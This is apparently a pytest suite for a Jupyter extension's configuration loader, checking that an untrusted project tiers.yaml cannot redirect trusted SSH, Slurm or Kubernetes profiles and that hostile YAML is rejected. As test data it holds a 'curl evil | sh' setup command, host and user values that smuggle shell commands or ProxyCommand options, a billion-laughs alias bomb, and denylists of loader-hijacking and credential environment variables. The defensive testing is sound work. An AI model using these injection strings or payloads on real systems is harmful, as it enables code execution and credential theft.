"""Issue 9, findings 2 and bad input: the trust model of tiers.yaml layers, OpenSSH-like host
and user names, and hostile YAML (alias bombs, deep nesting, non-UTF-8, huge files)."""

from __future__ import annotations

import random
import textwrap
from pathlib import Path
from typing import Any

import pytest

from jupyter_tiers.config import profiles as config
from jupyter_tiers.config import project_trust
from jupyter_tiers.config.profiles import ConfigError, load_config, load_file

USER = """
profiles:
  hpc:
    tier: slurm
    host: login.cluster.example
    user: alice
    known_hosts: ~/.ssh/known_hosts
  serving:
    tier: kubernetes
    namespace: team
default_profile: hpc
"""


@pytest.fixture()
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user layer (~/.jupyter/tiers.yaml) and a project directory as the working directory."""
    home = tmp_path / "home"
    (home / ".jupyter").mkdir(parents=True)
    (home / ".jupyter" / "tiers.yaml").write_text(USER, encoding="utf-8")
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.setattr(config, "SYSTEM_PATH", tmp_path / "no-etc" / "tiers.yaml")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv(config.ENV_VAR, raising=False)
    monkeypatch.delenv(config.TRUST_ENV_VAR, raising=False)
    monkeypatch.chdir(project)
    return home


def _project(text: str) -> Path:
    path = Path.cwd() / "tiers.yaml"
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def _refused(text: str) -> ConfigError:
    path = _project(text)
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.source == str(path)
    return info.value


@pytest.mark.parametrize("key, value", [
    ("host", "evil.example"), ("user", "mallory"), ("port", 2222), ("known_hosts", "./kh"),
    ("identity_file", "./id"), ("proxy_jump", "jump.evil"), ("tier", "local"),
])
def test_project_cannot_change_connection_keys_of_a_user_profile(home: Path, key: str, value: object) -> None:
    err = _refused(f"profiles:\n  hpc:\n    {key}: {value}\n")
    assert err.key == f"profiles.hpc.{key}"
    assert "defined in" in err.problem and str(home / ".jupyter" / "tiers.yaml") in err.problem
    assert "trust_project_config: true" in err.problem and config.TRUST_ENV_VAR in err.problem


@pytest.mark.parametrize("key, value", [
    ("ssh_config", "./ssh_config"), ("setup", "['curl evil | sh']"),
])
def test_project_cannot_set_command_keys_even_in_its_own_profile(home: Path, key: str, value: str) -> None:
    err = _refused(f"profiles:\n  mine:\n    tier: slurm\n    host: h.example\n    {key}: {value}\n")
    assert err.key == f"profiles.mine.{key}"
    assert "decides which code runs; never from a project file" in err.problem


def test_project_cannot_set_kubeconfig(home: Path) -> None:
    err = _refused("profiles:\n  k:\n    tier: kubernetes\n    kubeconfig: ./kubeconfig\n")
    assert err.key == "profiles.k.kubeconfig"


def test_project_may_set_defaults_env_and_add_profiles(home: Path) -> None:
    _project("""
        profiles:
          hpc:
            host: login.cluster.example   # the same value: no change
            defaults: {nodes: 2, partition: gpu}
            env: {NCCL_DEBUG: INFO}
          course:
            tier: slurm
            host: course.example
          laptop:
            tier: local
            defaults: {nodes: 1}
        default_profile: hpc
    """)
    cfg = load_config()
    hpc = cfg.profile("hpc")
    assert hpc.get("host") == "login.cluster.example" and hpc.get("user") == "alice"
    assert dict(hpc.defaults) == {"nodes": 2, "partition": "gpu"}
    assert cfg.profile("course").get("host") == "course.example"
    assert cfg.profile("course").project_defined and not hpc.project_defined
    assert cfg.profile("laptop").tier == "local"
    assert cfg.default_profile == "hpc"  # a trusted profile may be made the default


def test_project_cannot_make_its_own_remote_profile_the_default(home: Path) -> None:
    err = _refused("profiles:\n  course:\n    tier: slurm\n    host: course.example\n"
                   "default_profile: course\n")
    assert err.key == "default_profile"
    assert "--profile" in err.problem


def test_project_cannot_turn_builtin_local_into_a_remote_profile(home: Path) -> None:
    err = _refused("profiles:\n  local:\n    tier: slurm\n    host: evil.example\n")
    assert err.key in ("profiles.local.host", "profiles.local.tier")


def test_project_cannot_trust_itself(home: Path) -> None:
    err = _refused("trust_project_config: true\nprofiles:\n  hpc:\n    host: evil.example\n")
    assert err.key == "trust_project_config"


@pytest.mark.parametrize("how", ["user-key", "env-var", "explicit-file"])
def test_opt_in_lets_the_project_change_connection_keys(home: Path, monkeypatch: pytest.MonkeyPatch,
                                                         how: str) -> None:
    path = _project("profiles:\n  hpc:\n    host: other.example\n    setup: ['module load x']\n")
    if how == "user-key":
        user = home / ".jupyter" / "tiers.yaml"
        user.write_text(USER + "trust_project_config: true\n", encoding="utf-8")
    elif how == "env-var":
        monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
    else:
        monkeypatch.setenv(config.ENV_VAR, str(path))
    hpc = load_config().profile("hpc")
    assert hpc.get("host") == "other.example"
    assert hpc.setup == ("module load x",)


@pytest.mark.parametrize("host", [
    "-oProxyCommand=touch /tmp/x", "h;id", "h ost", "h\n", "h\tx", "$(id)", "`id`", "h|x", "a'b", "",
    "h\x00", "h&&x", "h>x",
])
def test_bad_hosts_refused(home: Path, host: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"

    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": host}}}), encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key in ("profiles.p.host",)
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("host", ["login.example.org", "127.0.0.1", "[::1]", "fe80::1%eth0", "my_alias",
                                  "node-01"])
def test_good_hosts_accepted(home: Path, host: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": host, "user": "a.b-c_d"}}}),
                    encoding="utf-8")
    assert load_config().profile("p").get("host") == host


@pytest.mark.parametrize("user", ["-oProxyCommand=x", "a b", "a;b", "$USER", "a\n", "a'b", "a`b`", ""])
def test_bad_users_refused(home: Path, user: str) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    path.write_text(yaml.safe_dump({"profiles": {"p": {"tier": "slurm", "host": "h", "user": user}}}),
                    encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config()
    assert info.value.key == "profiles.p.user"


def test_proxy_jump_validated(home: Path) -> None:
    import yaml

    path = home / ".jupyter" / "tiers.yaml"
    for jump, ok in [("bastion", True), ("alice@bastion:2222,inner", True), ("-oX=y", False),
                     ("a b", False), ("a;b", False)]:
        profile = {"tier": "slurm", "host": "h", "proxy_jump": jump}
        path.write_text(yaml.safe_dump({"profiles": {"p": profile}}), encoding="utf-8")
        if ok:
            assert load_config().profile("p").get("proxy_jump") == jump
        else:
            with pytest.raises(ConfigError, match="proxy_jump"):
                load_config()


# --- hostile YAML ---------------------------------------------------------------------------

BILLION_LAUGHS = """
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
profiles: {p: {tier: local, description: [*h,*h,*h,*h,*h,*h,*h,*h,*h]}}
"""


def test_alias_bomb_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(BILLION_LAUGHS, encoding="utf-8")
    with pytest.raises(ConfigError, match="aliases"):
        load_file(path)


def test_a_few_aliases_still_work(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  a: &base {tier: local, description: x}\n  b: *base\n", encoding="utf-8")
    assert set(load_file(path)["profiles"]) == {"a", "b"}


@pytest.mark.parametrize("text", ["[" * 5000 + "]" * 5000,
                                  "a:\n" + "".join(" " * i + "b:\n" for i in range(1, 200))])
def test_deep_nesting_is_a_config_error(tmp_path: Path, text: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match="YAML"):
        load_file(path)


def test_non_utf8_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_bytes(b"profiles:\n  p:\n    description: caf\xe9\n")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == "line 3"
    assert "UTF-8" in info.value.problem


def test_huge_file_is_a_config_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_bytes(b"#" * (config.MAX_CONFIG_BYTES + 10))
    with pytest.raises(ConfigError, match="larger than"):
        load_file(path)


@pytest.mark.parametrize("item", ["1", "{a: b}", "[x]", "null", "true"])
def test_non_string_sbatch_options_refused(tmp_path: Path, item: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  p:\n    tier: local\n    defaults:\n"
                    f"      sbatch_options: [--hold, {item}]\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == "profiles.p.defaults.sbatch_options[1]"


@pytest.mark.parametrize("key, value", [
    ("status_interval", "0"), ("status_interval", "-1"), ("status_interval", "0.05"),
    ("rank_interval", "0"), ("rank_interval", ".nan"), ("connect_timeout", ".inf"),
    ("connect_timeout", "0"), ("status_interval", "1.0e+300"),
])
def test_intervals_bounded(tmp_path: Path, key: str, value: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(f"profiles:\n  p:\n    tier: slurm\n    host: h\n    {key}: {value}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert info.value.key == f"profiles.p.{key}"
    assert "seconds from" in info.value.problem


def test_k8s_request_timeout_bounded(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text("profiles:\n  k:\n    tier: kubernetes\n    request_timeout: 0\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="request_timeout"):
        load_file(path)


def test_env_value_never_in_config_errors(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    for env in ("{TOKEN: [s3cr3t-value]}", "{TOKEN: {k: s3cr3t-value}}", "{TOKEN: \"s3cr3t-value\\0\"}"):
        path.write_text(f"profiles:\n  p:\n    tier: local\n    env: {env}\n", encoding="utf-8")
        with pytest.raises(ConfigError) as info:
            load_file(path)
        assert "s3cr3t" not in str(info.value)
        assert info.value.key == "profiles.p.env.TOKEN"


def test_user_file_is_not_also_an_untrusted_project_file(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    user = home / ".jupyter" / "tiers.yaml"
    user.write_text(USER.replace("    known_hosts:", "    setup: ['module load x']\n    known_hosts:"),
                    encoding="utf-8")
    monkeypatch.chdir(home / ".jupyter")  # ./tiers.yaml is the user's own file
    cfg = load_config()
    assert cfg.profile("hpc").setup == ("module load x",)
    assert cfg.sources == (str(user),)


def test_profile_name_with_a_line_break_is_a_one_line_error(tmp_path: Path) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text('profiles:\n  "bad\\nname": {tier: local}\n', encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_file(path)
    assert "\n" not in str(info.value)


# --- issue 20, item 5: every key that redirects a trusted profile, and loader-hijacking env ----

# One refused value per key the allowlist (project_trust.PROJECT_KEYS) refuses on a trusted profile,
# on a trusted profile of a tier that has the key (USER's hpc and serving, or the built-in local).
# Must name every such key.
REDIRECTS: dict[str, tuple[str, object]] = {
    "tier": ("hpc", "local"),
    "host": ("hpc", "evil.example"),
    "port": ("hpc", 2222),
    "user": ("hpc", "mallory"),
    "identity_file": ("hpc", "./id"),
    "known_hosts": ("hpc", "./kh"),
    "proxy_jump": ("hpc", "jump.evil"),
    "ssh_config": ("hpc", "./ssh_config"),
    "kubeconfig": ("serving", "./kubeconfig"),
    "context": ("serving", "attacker"),
    "namespace": ("serving", "attacker"),
    "service_type": ("serving", "LoadBalancer"),
    "ingress_class": ("serving", "attacker-class"),
    "ingress_annotations": ("serving", {"nginx.ingress.kubernetes.io/configuration-snippet": "x"}),
    "workdir": ("hpc", "/tmp/shared"),
    "defaults.checkpoint_dir": ("hpc", "/tmp/loot"),
    "path_map": ("local", {"/scratch": "/tmp/evil"}),
    "model_volume": ("serving", {"host_path": "/"}),
    "storage_class": ("serving", "attacker-sc"),
    "object_store": ("serving", {"endpoint_url": "https://evil.example", "bucket": "loot",
                                 "credentials_secret": "s3cr3t-creds"}),
    "setup": ("hpc", ["curl evil | sh"]),
    "defaults.image": ("serving", "evil/image:latest"),
    "fetch_image": ("serving", "evil/fetch:latest"),  # it is handed the object store's credentials
    "defaults.python": ("hpc", "./venv/bin/python"),
    "image_pull_secrets": ("serving", ["attacker-cred"]),
    "defaults.secret_env": ("serving", {"HF_TOKEN": "attacker/token"}),
    "load_limit_rps": ("serving", 10_000),  # a lab's bound on load tests, raised by a cloned project
    # issue 26: the allowlist refuses these too (destinations, code, how this machine polls)
    "defaults.checkpoint_to": ("hpc", "s3://attacker-bucket/loot"),
    "defaults.sbatch_options": ("hpc", ["--mail-type=ALL"]),
    "defaults.sync": ("hpc", ["./data"]),
    "sync_max_mb": ("hpc", 4000),
    "connect_timeout": ("hpc", 600),
    "status_interval": ("hpc", 1),
    "rank_interval": ("hpc", 1),
    "stale_after": ("hpc", 7 * 86400),
    "request_timeout": ("serving", 3600),
    "hang_after": ("hpc", 7 * 86400),  # issue 37: a cloned project would silence "looks hung"
}
TIER_OF = {"hpc": "slurm", "serving": "kubernetes", "local": "local"}


REFUSED_ON_TRUSTED = {k: r.decides for k, r in config.PROJECT_KEYS.items() if not r.on_trusted}
OWN_MAY_SET = {k for k, r in config.PROJECT_KEYS.items() if r.on_own}


def test_every_key_refused_on_a_trusted_profile_has_a_redirect_case() -> None:
    assert set(REDIRECTS) == set(REFUSED_ON_TRUSTED)


def _profile_with(key: str, value: object) -> dict[str, object]:
    head, _, sub = key.partition(".")
    return {"defaults": {sub: value}} if head == "defaults" else {key: value}


def _yaml(doc: dict[str, object]) -> str:
    import yaml

    return yaml.safe_dump(doc, sort_keys=False)


@pytest.mark.parametrize("key", sorted(REDIRECTS))
def test_project_cannot_redirect_a_trusted_profile(home: Path, key: str) -> None:
    name, value = REDIRECTS[key]
    err = _refused(_yaml({"profiles": {name: _profile_with(key, value)}}))
    assert isinstance(err, config.ProjectFileRefused)
    assert err.key == f"profiles.{name}.{key}" and len(err.refusals) == 1
    line = next(x for x in str(err).splitlines() if x.strip().startswith(err.key))
    assert f"decides {REFUSED_ON_TRUSTED[key]}" in line
    trusted = "jupyter-tiers (built in)" if name == "local" else str(home / ".jupyter" / "tiers.yaml")
    assert line.endswith(f"{name} is defined in {trusted}")
    if key == "object_store":
        assert "evil.example" not in str(err) and "s3cr3t" not in str(err)  # credentials never shown
    elif isinstance(value, str):
        assert f'= "{value}"' in line
    assert "trust_project_config: true" in str(err) and config.TRUST_ENV_VAR in str(err)


@pytest.mark.parametrize("key", sorted(set(REDIRECTS) & OWN_MAY_SET - {"tier"}))
def test_a_project_only_profile_may_still_set_it(home: Path, key: str) -> None:
    """Its own Slurm profile may name its host, port and user (it runs only when named)."""
    name, value = REDIRECTS[key]
    tier = TIER_OF[name]
    host = {"host": "course.example"} if tier == "slurm" else {}
    profile = {"tier": tier, **host, **_profile_with(key, value)}
    _project(_yaml({"profiles": {"course": profile}}))
    got = load_config().profile("course")
    head, _, sub = key.partition(".")
    assert (got.defaults[sub] if head == "defaults" else got.get(key)) is not None
    assert got.project_defined


@pytest.mark.parametrize("key", sorted(set(REDIRECTS) - OWN_MAY_SET - {"tier"}))
def test_a_project_only_profile_borrows_nothing(home: Path, key: str) -> None:
    """Issue 26, part 2: the keys refused on a trusted profile are refused on the project's own."""
    name, value = REDIRECTS[key]
    tier = TIER_OF[name] if key != "context" else "kubernetes"
    host = {"host": "course.example"} if tier == "slurm" else {}
    err = _refused(_yaml({"profiles": {"course": {"tier": tier, **host, **_profile_with(key, value)}}}))
    assert isinstance(err, config.ProjectFileRefused)
    # its own kubernetes profile is refused too (it would use your kubeconfig)
    assert {r.key for r in err.refusals} == {f"profiles.course.{key}"} | (
        {"profiles.course.tier"} if tier == "kubernetes" else set())
    line = next(x for x in str(err).splitlines() if x.strip().startswith(f"profiles.course.{key}"))
    assert line.endswith(f"decides {REFUSED_ON_TRUSTED[key]}; never from a project file")


def test_repeating_a_trusted_value_is_no_change(home: Path) -> None:
    user = home / ".jupyter" / "tiers.yaml"
    user.write_text(USER.replace("    namespace: team\n", "    namespace: team\n    defaults: {image: "
                                 "'py:3.11'}\n    env: {PYTHONPATH: /opt/lib}\n"), encoding="utf-8")
    _project("profiles:\n  serving:\n    namespace: team\n    defaults: {image: 'py:3.11', replicas: 2}\n"
             "    env: {PYTHONPATH: /opt/lib, NCCL_DEBUG: INFO}\n")
    serving = load_config().profile("serving")
    assert serving.get("namespace") == "team"
    assert dict(serving.defaults) == {"image": "py:3.11", "replicas": 2}


HIJACKING = [
    *sorted(project_trust.REFUSED_ENV_NAMES),
    "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PYTHONPATH", "PYTHONSTARTUP",
    "PYTHONHOME", "BASH_FUNC_ls", "GIT_CONFIG_GLOBAL", "PIP_INDEX_URL", "UV_INDEX_URL", "CONDARC",
    "http_proxy", "ld_preload",
    # issue 26: the SDKs' endpoints, credentials and config files, trackers' destinations, NCCL's plugins
    "AWS_ACCESS_KEY_ID", "AWS_ENDPOINT_URL", "AWS_CONFIG_FILE", "MLFLOW_TRACKING_TOKEN", "WANDB_ENTITY",
    "NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_CONF_FILE", "AZURE_CLIENT_SECRET", "GOOGLE_CLOUD_PROJECT",
    "COMET_API_KEY", "NEPTUNE_PROJECT", "NCCL_IB_PLUGIN_X",
]
# Issue 36: names the fourth review found on no denylist (each chooses code, a destination or a
# credential), and names nobody has classified: all refused, by allowlist.
UNLISTED = ["OPENSSL_CONF", "CUDA_INJECTION64_PATH", "NVTX_INJECTION64_PATH", "OMP_TOOL_LIBRARIES",
            "XDG_CACHE_HOME", "TRITON_CACHE_DIR", "TORCHINDUCTOR_CACHE_DIR", "TORCH_EXTENSIONS_DIR", "CC",
            "CUDA_HOME", "JUPYTER_CONFIG_DIR", "IPYTHONDIR", "GIT_EXTERNAL_DIFF", "LESSOPEN", "KRB5CCNAME",
            "SSH_AUTH_SOCK", "GOOGLE_APPLICATION_CREDENTIALS", "HOSTALIASES", "R_LIBS_USER",
            "JULIA_LOAD_PATH", "MY_PATH", "LDAP_URI", "PY_VERSION", "HF_TOKEN", "CUDA_VISIBLE_DEVICES",
            "omp_num_threads", "Nccl_Debug", "A"]
SLURM_NAMES = ["SBATCH_EXPORT", "SBATCH_CONTAINER", "SBATCH_CLUSTERS", "SBATCH_ERROR", "SRUN_EXPORT_ENV",
               "SRUN_CONTAINER", "SALLOC_PARTITION", "SLURM_CPU_BIND", "SLURMD_NODENAME", "SCANCEL_ACCOUNT",
               "SQUEUE_FORMAT", "SACCT_FORMAT", "sbatch_export"]


def test_every_refused_prefix_is_exercised() -> None:
    for prefix in project_trust.REFUSED_ENV_PREFIXES:
        assert any(name.upper().startswith(prefix) for name in HIJACKING + SLURM_NAMES), prefix


@pytest.mark.parametrize("name", HIJACKING)
@pytest.mark.parametrize("profile", ["hpc", "own"])
def test_project_cannot_set_a_loader_hijacking_env_name(home: Path, name: str, profile: str) -> None:
    body = "    tier: local\n" if profile == "own" else ""
    err = _refused(f"profiles:\n  {profile}:\n{body}    env: {{{name}: s3cr3t-value}}\n")
    assert err.key == f"profiles.{profile}.env.{name}"
    assert "s3cr3t" not in str(err)
    assert f"{err.key}: decides " in str(err) and "; never from a project file" in str(err)


@pytest.mark.parametrize("name", UNLISTED)
@pytest.mark.parametrize("profile", ["hpc", "own", "local"])
def test_a_name_off_the_allowlist_is_refused_with_the_opt_in(home: Path, name: str, profile: str) -> None:
    """Issue 36 item 3: the review set OPENSSL_CONF on the built-in local profile and a job's
    ``import urllib.request`` loaded the project's library; a denylist always misses one."""
    body = "    tier: local\n" if profile == "own" else ""
    err = _refused(f"profiles:\n  {profile}:\n{body}    env: {{{name}: s3cr3t-value}}\n")
    assert err.key == f"profiles.{profile}.env.{name}"
    lines = str(err).splitlines()
    assert any(line.strip().startswith(f"{err.key}: ") and line.endswith("never from a project file")
               for line in lines), str(err)
    assert lines[-1] == config.OPT_IN and "s3cr3t" not in str(err)


@pytest.mark.parametrize("name", SLURM_NAMES)
@pytest.mark.parametrize("layer", ["user", "project"])
def test_slurms_own_variables_are_refused_from_every_file(home: Path, name: str, layer: str,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 36 items 1-2: SBATCH_EXPORT in a project file reached sbatch on the on-cluster path,
    SRUN_EXPORT_ENV every rank through env.sh; from any file (the user's too) they are refused."""
    text = f"profiles:\n  here:\n    tier: slurm\n    env: {{{name}: 'ALL,LD_PRELOAD=/x/evil.so'}}\n"
    if layer == "user":
        (home / ".jupyter" / "tiers.yaml").write_text(text, encoding="utf-8")
    else:
        _project(text)
        monkeypatch.setenv("JUPYTER_TIERS_TRUST_PROJECT", "1")  # trusted: still refused
    with pytest.raises(ConfigError) as err:
        load_config()
    assert f"env.{name}" in str(err.value) and "defaults" in str(err.value)
    assert "evil" not in str(err.value)


# The allowlist's names: set from a project file on a trusted profile and on its own.
@pytest.mark.parametrize("name", ["NCCL_DEBUG", "NCCL_IB_HCA", "OMP_NUM_THREADS", "HF_HUB_OFFLINE",
                                  "TORCH_DISTRIBUTED_DEBUG", "PYTHONHASHSEED", "CUBLAS_WORKSPACE_CONFIG",
                                  *sorted(config.PROJECT_ENV)[:5]])
def test_allowlisted_env_names_stay_allowed(home: Path, name: str) -> None:
    _project(f"profiles:\n  hpc:\n    env: {{{name}: '1'}}\n"
             f"  own:\n    tier: local\n    env: {{{name}: '2'}}\n")
    cfg = load_config()
    assert cfg.profile("hpc").env[name] == "1" and cfg.profile("own").env[name] == "2"


def test_all_refusals_at_once_one_line_each(home: Path) -> None:
    path = _project("""
        profiles:
          serving:
            namespace: attacker
            service_type: LoadBalancer
            model_volume: {host_path: /}
            image_pull_secrets: [attacker-cred]
            defaults: {image: evil/image, secret_env: {HF_TOKEN: a/b}, replicas: 3}
          hpc:
            workdir: /tmp/x
            defaults: {python: ./python, nodes: 2}
            env: {LD_PRELOAD: ./x.so, PYTHONPATH: ., NCCL_DEBUG: INFO}
          course:
            tier: slurm
            host: course.example
        default_profile: course
    """)
    with pytest.raises(config.ProjectFileRefused) as info:
        load_config()
    err = info.value
    keys = [r.key for r in err.refusals]
    assert keys == [
        "profiles.serving.image_pull_secrets", "profiles.serving.model_volume", "profiles.serving.namespace",
        "profiles.serving.service_type", "profiles.serving.defaults.image",
        "profiles.serving.defaults.secret_env", "profiles.hpc.workdir", "profiles.hpc.defaults.python",
        "profiles.hpc.env.LD_PRELOAD", "profiles.hpc.env.PYTHONPATH", "default_profile",
    ]
    lines = str(err).splitlines()
    assert lines[0] == (f"{path}: refused 11 settings of this project file "
                        "(it may have come with a cloned repository):")
    assert [line.split(" ", 3)[2].rstrip(":") for line in lines[1:-1]] == keys
    assert ('  profiles.serving.model_volume = {"host_path": "/"}: decides where files go; '
            'serving is defined in') in str(err)
    assert '  profiles.serving.service_type = "LoadBalancer": decides who can reach it;' in str(err)
    assert "  profiles.hpc.env.LD_PRELOAD: decides which code runs" in str(err)  # no value shown
    assert lines[-1].startswith("to allow it, set trust_project_config: true")


@pytest.mark.parametrize("how", ["user-key", "env-var", "explicit-file"])
def test_opt_in_lets_the_project_redirect_and_set_loader_env(home: Path, monkeypatch: pytest.MonkeyPatch,
                                                             how: str) -> None:
    path = _project("""
        profiles:
          serving:
            namespace: other
            service_type: NodePort
            model_volume: {host_path: /models}
            object_store: {bucket: ours}
            defaults: {image: "ours/image:1", secret_env: {HF_TOKEN: hf/token}}
            env: {LD_PRELOAD: /opt/x.so}
          hpc:
            workdir: /scratch/course
            defaults: {python: /opt/venv/bin/python}
            env: {PYTHONPATH: /opt/lib}
    """)
    if how == "user-key":
        (home / ".jupyter" / "tiers.yaml").write_text(USER + "trust_project_config: true\n", encoding="utf-8")
    elif how == "env-var":
        monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
    else:
        monkeypatch.setenv(config.ENV_VAR, str(path))
    cfg = load_config()
    serving, hpc = cfg.profile("serving"), cfg.profile("hpc")
    assert (serving.get("namespace"), serving.get("service_type")) == ("other", "NodePort")
    assert serving.get("model_volume") == {"host_path": "/models"}
    assert serving.get("object_store") == {"bucket": "ours"}
    assert serving.defaults["image"] == "ours/image:1" and serving.env["LD_PRELOAD"] == "/opt/x.so"
    assert hpc.workdir == "/scratch/course" and hpc.defaults["python"] == "/opt/venv/bin/python"
    assert hpc.env["PYTHONPATH"] == "/opt/lib"


def test_refusal_messages_fuzz(home: Path) -> None:
    """Random project files over the connection keys and env names, with hostile values: the
    refusal is one header line, one line per refused key, one opt-in line, all printable."""
    import yaml

    rng = random.Random(2005)
    junk = ["x", "a\nb", "\x1b[31mred", "é" * 100, "$(id)", "", "a" * 500, 7, True, None, [1, "\r"],
            {"k": "\n"}]
    envs = [*HIJACKING[:20], "NCCL_DEBUG", "A"]
    refused = invalid = 0
    for _ in range(300):
        profiles: dict[str, dict[str, Any]] = {}
        for _ in range(rng.randint(1, 3)):
            name = rng.choice(["hpc", "serving", "local"])
            prof = profiles.setdefault(name, {})
            key = rng.choice(sorted(REDIRECTS))
            value = REDIRECTS[key][1] if rng.random() < 0.6 else rng.choice(junk)
            if rng.random() < 0.4:
                prof.setdefault("env", {})[rng.choice(envs)] = rng.choice(["v", "a\nb", "\x00"])
            head, _, sub = key.partition(".")
            if head == "defaults":
                prof.setdefault("defaults", {})[sub] = value
            else:
                prof[key] = value
        _project(yaml.safe_dump({"profiles": profiles}))
        config_cache_clear()
        try:
            load_config()
        except config.ProjectFileRefused as err:
            refused += 1
            lines = str(err).splitlines()
            assert len(lines) == len(err.refusals) + 2, str(err)
            assert all(line.isprintable() for line in lines), str(err)
            assert "s3cr3t" not in str(err)
        except ConfigError as err:
            invalid += 1
            assert type(err) is ConfigError  # a bad value: the ordinary one-key error
        else:  # accepted: every connection key it names repeats the trusted value (no change)
            given = [(n, k) for n, p in profiles.items() for k in p if k in REFUSED_ON_TRUSTED]
            if given:
                (Path.cwd() / "tiers.yaml").unlink()
                config_cache_clear()
                trusted = {n: load_config().profile(n) for n, _ in given}
                assert all((trusted[n].tier if k == "tier" else trusted[n].get(k)) == profiles[n][k]
                           for n, k in given), profiles
    assert refused > 100 and invalid > 10, (refused, invalid)


def config_cache_clear() -> None:
    from jupyter_tiers.config import cache as config_cache

    config_cache.clear()


def test_the_magic_shows_every_refused_key_as_one_usage_error(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Where the user meets it: the magic's own error, one line per key, nothing run."""
    from IPython.core.error import UsageError

    from tests import helpers

    helpers.isolate_tiers(tmp_path, monkeypatch)  # the built-in local profile is the trusted one
    (tmp_path / "tiers.yaml").write_text(
        "profiles:\n  local:\n    workdir: /tmp/shared\n    defaults: {python: ./evil-python}\n"
        "    env: {LD_PRELOAD: ./evil.so}\n", encoding="utf-8")
    ip = helpers.tiers_shell()
    with pytest.raises(UsageError) as info:
        ip.run_cell_magic("slurm_train", "--dry-run", "print(1)\n")
    lines = str(info.value).splitlines()
    assert lines[0].endswith("tiers.yaml: refused 3 settings of this project file "
                             "(it may have come with a cloned repository):")
    assert lines[1:4] == [
        '  profiles.local.workdir = "/tmp/shared": decides where files go; local is defined in '
        "jupyter-tiers (built in)",
        '  profiles.local.defaults.python = "./evil-python": decides which code runs; local is defined '
        "in jupyter-tiers (built in)",
        "  profiles.local.env.LD_PRELOAD: decides which code runs; never from a project file",
    ]
    assert lines[4].startswith("to allow it, set trust_project_config: true")
